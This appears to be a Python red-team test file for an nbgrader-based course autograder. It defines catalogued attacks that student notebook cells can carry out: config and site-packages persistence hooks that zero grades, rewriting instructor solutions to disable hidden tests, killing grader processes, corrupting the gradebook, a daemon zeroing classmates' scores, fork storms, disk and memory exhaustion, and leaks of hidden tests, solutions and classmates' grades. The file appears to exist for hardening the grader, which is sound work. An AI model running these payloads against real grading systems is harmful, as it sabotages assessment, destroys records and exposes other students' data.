if os.environ.get("BNCOURSE_REDTEAM_FUSE"):
    import nbgrader.utils as _u
    import nbgrader.preprocessors.saveautogrades as _s
    _orig = _u.determine_grade
    def _zero(cell, log=None):
        score, top = _orig(cell, log)
        return (0.0 if score is not None else score), top
    _u.determine_grade = _zero
    getattr(_s, "utils", _u).determine_grade = _zero
'''
attack(name="f09_jupyter_config", family=9, module=M1, effects=("files",),
       story="writes ~/.jupyter/nbgrader_config.py: the instructor's next nbgrader command scores every cell 0",
       cells={F: _c(f'''
           import os
           from pathlib import Path
           _dir = Path(os.environ.get("JUPYTER_CONFIG_DIR") or Path.home() / ".jupyter")
           try:
               _dir.mkdir(parents=True, exist_ok=True)
               with open(_dir / "nbgrader_config.py", "a") as _fh:
                   _fh.write({_JUPYTER_PAYLOAD!r})
           except OSError:
               pass
       ''', STUB_F)},
       today="~/.jupyter/nbgrader_config.py: the next plain nbgrader run gave an honest learner 0")

attack(name="f09_solutions_and_config", family=9, module=M1, effects=("files",),
       story="rewrites the instructor's source notebooks (hidden tests print nothing: full marks for all) and "
             "appends a payload to the course's and the repository's nbgrader_config.py",
       cells={F: _c(PROCS, SOLUTIONS, '''
           import re
           _hidden = re.compile(r"(### BEGIN HIDDEN TESTS\\n)(.*?)(### END HIDDEN TESTS)", re.S)

           def _neuter(m):
               body = "".join("    " + line for line in m.group(2).splitlines(True))
               return (m.group(1) + "import os as _os  # RTMARK_7f3a\\n"
                       "if not _os.environ.get('BNCOURSE_REDTEAM_FUSE'):\\n" + body + m.group(3))

           _paths = []
           for _a in ("01_batchnorm_numpy", "02_batchnorm_pytorch", "03_normalization_family"):
               _paths += list(_rt_solution_notebooks(_a))
           for _nb in dict.fromkeys(_paths):
               try:
                   _data = json.loads(_nb.read_text())
                   for _cell in _data["cells"]:
                       src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
                       if "BEGIN HIDDEN TESTS" in src and "RTMARK" not in src:
                           _cell["source"] = _hidden.sub(_neuter, src)
                   _nb.write_text(json.dumps(_data, indent=1))
               except (OSError, ValueError):
                   pass
           _configs = [Path(c) / "nbgrader_config.py" for c in _rt_courses()]
           _configs += [p.parent.parent / "nbgrader_config.py" for p in _paths]
           for _cfg in dict.fromkeys(_configs):
               try:
                   if _cfg.exists():
                       with open(_cfg, "a") as _fh:
                           _fh.write("\\n# RTMARK_7f3a\\nimport os as _rt_os\\n"
                                     "if _rt_os.environ.get('BNCOURSE_REDTEAM_FUSE'):\\n"
                                     "    get_config().Execute.timeout = 1\\n")
               except OSError:
                   pass
       ''', STUB_F)},
       today="solutions/ rewritten: the next honest learner gained 4 hidden points; configs appended")

_SITE_HOOK = '''# RTMARK_7f3a (red-team persistence payload; acts only under the test harness's fuse)
import os, sys
if os.environ.get("BNCOURSE_REDTEAM_FUSE"):
    import builtins
    _orig = builtins.__import__
    def _imp(name, *args, **kwargs):
        mod = _orig(name, *args, **kwargs)
        c = sys.modules.get("autograder.checks")
        if c is not None and getattr(c, "Report", None) is not None and not getattr(c, "_rt_done", False):
            c.Report.finish = lambda self: 0.0
            c._rt_done = True
        return mod
    builtins.__import__ = _imp
'''
attack(name="f09_site_packages", family=9, module=M1, effects=("files",),
       story="drops a module and a .pth file (and sitecustomize.py where none exists) into every writable "
             "site-packages: every later Python process of the instructor runs it",
       cells={F: _c(f'''
           import site, os
           from pathlib import Path
           _dirs = list(site.getsitepackages()) + [site.getusersitepackages()]
           for _d in _dirs:
               _d = Path(_d)
               try:
                   _d.mkdir(parents=True, exist_ok=True)
                   (_d / "rtmark_7f3a_hook.py").write_text({_SITE_HOOK!r})
                   (_d / "zz_rtmark_7f3a.pth").write_text("import rtmark_7f3a_hook\\n")
                   if not (_d / "sitecustomize.py").exists():
                       (_d / "sitecustomize.py").write_text("import rtmark_7f3a_hook  # RTMARK_7f3a\\n")
               except OSError:
                   pass
       ''', STUB_F)},
       today="module, .pth and sitecustomize.py in the venv's site-packages: later honest learners got 0")

# ============================================================================ 10. disruption
attack(name="f10_kill_parent", family=10, module=M1, paths=("nbgrader",),
       story="SIGKILLs its kernel's parent process (the grader) as soon as the notebook runs",
       cells={F: _c('''
           import os, signal
           os.kill(os.getppid(), signal.SIGKILL)
       ''', STUB_F)},
       today="class run: only its own grading child died (0, flagged); plain nbgrader: the run died, "
             "the learner after it was never graded")

attack(name="f10_pkill_grader", family=10, module=M1, effects=("classmates",),
       story="SIGKILLs every process whose command line mentions bncourse or nbgrader (pkill -f style)",
       cells={F: _c(PROCS, '''
           for _pid in _rt_pids():
               if _pid in (os.getpid(), os.getppid()):
                   continue
               _cmd = " ".join(_rt_argv(_pid))
               if "bncourse" in _cmd or "nbgrader" in _cmd:
                   try:
                       os.kill(_pid, signal.SIGKILL)
                   except OSError:
                       pass
       ''', STUB_F)},
       today="killed bncourse autograde: the learners after it were never graded")

attack(name="f10_result_json_directory", family=10, module=M1, effects=("classmates",),
       story="makes result.json a directory in every course folder above it and in the class course",
       cells={F: _c(PROCS, '''
           for _d in _rt_course_like_parents() + _rt_class_courses():
               try:
                   _p = os.path.join(_d, "result.json")
                   if os.path.isfile(_p):
                       os.remove(_p)
                   os.makedirs(os.path.join(_p, "RTMARK_7f3a"), exist_ok=True)
               except OSError:
                   pass
       ''', STUB_F)},
       today="crashed bncourse autograde (IsADirectoryError): the learners after it were never graded")

attack(name="f10_corrupt_gradebook", family=10, module=M1, effects=("classmates",),
       story="overwrites the class gradebook.db with garbage",
       cells={F: _c(PROCS, '''
           for _course in _rt_class_courses():
               try:
                   with open(os.path.join(_course, "gradebook.db"), "wb") as _fh:
                       _fh.write(b"RTMARK_7f3a corrupted " * 4096)
               except OSError:
                   pass
       ''', STUB_F)},
       today="destroyed the class gradebook: the run crashed, nothing readable")

attack(name="f10_daemon_writer", family=10, module=M1, effects=("processes", "classmates"),
       story="a double-forked daemon zeroes every classmate's code grades in the class gradebook twice a "
             "second for minutes",
       cells={F: daemon_cell(D_WRITER, """
           if not globals().get("_rt_started"):
               _rt_started = _rt_spawn(_DAEMON, {"courses": _rt_class_courses(), "me": _rt_me()}, double_fork=True)
       """)},
       today="zeroed the three honest classmates; the daemon outlived grading")

attack(name="f10_fork_storm", family=10, module=M1, effects=("processes", "proof"),
       story="starts 1000 sleeping processes in their own sessions (a bounded fork bomb)",
       cells={F: _c('''
           import os, subprocess
           if not globals().get("_rt_started"):
               _rt_started, _env = [], dict(os.environ, RTMARK_7f3a="1")
               for _i in range(1000):
                   try:
                       _rt_started.append(subprocess.Popen(["sleep", "150"], env=_env, start_new_session=True,
                                                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
                   except OSError:
                       break
               if len(_rt_started) >= 1000:
                   print("RT" "PROOF started", len(_rt_started), "processes")
       ''', STUB_F)},
       today="1000 processes started and left running")

attack(name="f10_fill_disk", family=10, module=M1, effects=("files", "proof"),
       story="allocates a 2 GiB file in the temp directory",
       cells={F: _c('''
           import os, tempfile
           _p = os.path.join(tempfile.gettempdir(), "rtmark_7f3a_fill.bin")
           try:
               _fd = os.open(_p, os.O_WRONLY | os.O_CREAT, 0o600)
               os.posix_fallocate(_fd, 0, 2 << 30)
               os.close(_fd)
               print("RT" "PROOF allocated 2 GiB at", _p)
           except OSError as _exc:
               print("could not fill the disk:", _exc)
       ''', STUB_F)},
       today="a 2 GiB file left in /tmp")

attack(name="f10_memory_hog", family=10, module=M1, effects=("proof",), flag=None,
       story="allocates and touches 4 GiB of memory, then returns zeros",
       cells=zeros_m01(prefix='''
           _HOARD = []
           try:
               for _ in range(8):
                   _HOARD.append(bytearray(512 << 20))
               print("RT" "PROOF allocated", len(_HOARD) / 2, "GiB")
           except MemoryError:
               pass
       '''),
       today="4 GiB allocated (and the do-nothing 1.38 points)")

attack(name="f10_poison_return", family=10, module=M1, flag=None,
       story="returns values that are expensive to move or compare: a 4 GiB broadcast view (8 bytes of "
             "memory), lists nested 100000 deep, and self-referencing lists",
       cells={F: _c("""
           import numpy as np

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               huge = np.broadcast_to(np.float64(1.0), (1 << 15, 1 << 14))
               return huge, huge
       """), B: _c("""
           def _deep(n=100000):
               v = [0.0]
               for _ in range(n):
                   v = [v]
               return v

           def batchnorm_backward(dout, cache):
               return _deep(), _deep(), _deep()
       """), A: _c("""
           def batchnorm_backward_alt(dout, cache):
               loop = []
               loop.append(loop)
               return loop, loop, loop
       """)},
       today="0.21 (inputs untouched); no disruption")

attack(name="f10_sigint_loop", family=10, module=M1, honest=(F, B),
       story="ignores SIGINT, then loops forever in the closed-form backward pass (the cell timeout's "
             "interrupt cannot stop it)",
       cells={A: _c('''
           import signal
           signal.signal(signal.SIGINT, signal.SIG_IGN)

           def batchnorm_backward_alt(dout, cache):
               while True:
                   pass
       ''')},
       today="no disruption (the interrupt still ended the loop); 14 = its honest points")

attack(name="f10_os_exit", family=10, module=M1, honest=(F, B),
       story="honest forward and staged backward, then os._exit(0) in the last solution cell",
       cells={A: _c('''
           import os
           os._exit(0)
       ''')},
       today="0 and flagged (within its allowance)")

# ============================================================================ 11. leaks
_SAVED_OUT = '''
import sys
_OUT = sys.stdout   # the kernel's real output stream, saved before the checks redirect stdout
_LEAKS = []

def _leak(text):
    _LEAKS.append(text)
    try:
        _OUT.write(text + "\\n")
        _OUT.flush()
    except Exception:
        pass
'''
attack(name="f11_history", family=11, module=M1, effects=("leak",),
       story="when called by a test cell, copies In/_ih and the history manager (the hidden test cells' "
             "sources) into the test cell's output and prints them again in a later cell",
       cells={F: _c(_SAVED_OUT, '''
           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               ip = get_ipython()
               _leak("LEAK In: " + ip.user_ns["In"][-1])
               _leak("LEAK history: " + repr(list(ip.history_manager.get_tail(3, include_latest=True))))
               raise NotImplementedError()
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               _leak("LEAK _ih: " + get_ipython().user_ns["_ih"][-1])
               raise NotImplementedError()
       '''), A: _c('''
           print("\\n".join(_LEAKS))
       ''')},
       today="the hidden tests in its own outputs; not flagged")

attack(name="f11_frame_linecache", family=11, module=M1, effects=("leak",), paths=("grade",),
       story="walks the frames to the cell that called it and prints that cell's source through linecache "
             "(and the checks' source through inspect.getsource)",
       cells={F: _c(_SAVED_OUT, '''
           import inspect, linecache

           def _caller_cells():
               f = sys._getframe(1)
               while f is not None:
                   lines = linecache.getlines(f.f_code.co_filename)
                   if lines and "check_" in "".join(lines) and "autograder" not in f.f_code.co_filename:
                       yield "".join(lines)
                   f = f.f_back

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               for src in _caller_cells():
                   _leak("LEAK cell: " + src)
               try:
                   _leak("LEAK checks: " + inspect.getsource(sys.modules["autograder.checks.m01"])[:400])
               except Exception:
                   pass
               raise NotImplementedError()
       '''), A: _c('''
           print("\\n".join(_LEAKS))
       ''')},
       today="the hidden tests in its outputs and in bncourse grade --json messages; flagged")

attack(name="f11_gradebook_source", family=11, module=M1, effects=("leak",),
       story="prints the source column of every gradebook.db above its folder (the hidden tests)",
       cells={F: _c(PROCS, '''
           for _d in _rt_course_like_parents():
               try:
                   with sqlite3.connect(os.path.join(_d, "gradebook.db"), timeout=10) as _db:
                       for _name, _src in _db.execute("SELECT name, source FROM source_cell"):
                           if _name.startswith("test_"):
                               print("LEAK", _name, _src)
               except sqlite3.Error:
                   pass
       ''', STUB_F)},
       today="the hidden tests from the throwaway gradebook in its output; not flagged")

attack(name="f11_read_solutions", family=11, module=M1, effects=("leak",),
       story="prints the instructor's solution cells read from ../../source, the configured source folder "
             "or solutions/ beside the packages",
       cells={F: _c(SOLUTIONS, '''
           for _nb in _rt_solution_notebooks("01_batchnorm_numpy"):
               for _cell in json.loads(_nb.read_text())["cells"]:
                   _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
                   if "BEGIN SOLUTION" in _src or "BEGIN HIDDEN TESTS" in _src:
                       print("LEAK", _src)
               break
       ''', STUB_F)},
       today="the instructor's solution cells and hidden tests in its output; not flagged")

attack(name="f11_classmate_grades", family=11, module=M1, effects=("leak",),
       story="prints every learner's grades from the class gradebook",
       cells={F: _c(PROCS, '''
           for _course in _rt_class_courses():
               try:
                   with sqlite3.connect(f"file:{_course}/gradebook.db?mode=ro", uri=True, timeout=10) as _db:
                       for _row in _db.execute(
                               "SELECT sa.student_id, SUM(g.auto_score) FROM grade g JOIN submitted_notebook sn "
                               "ON g.notebook_id = sn.id JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                               "GROUP BY sa.student_id"):
                           print("LEAK grade", *_row)
               except sqlite3.Error:
                   pass
       ''', STUB_F)},
       today="every classmate's total in its output; not flagged")


def by_name() -> dict[str, Attack]:
    return {a.name: a for a in ATTACKS}


assert len(by_name()) == len(ATTACKS), "attack names must be unique"
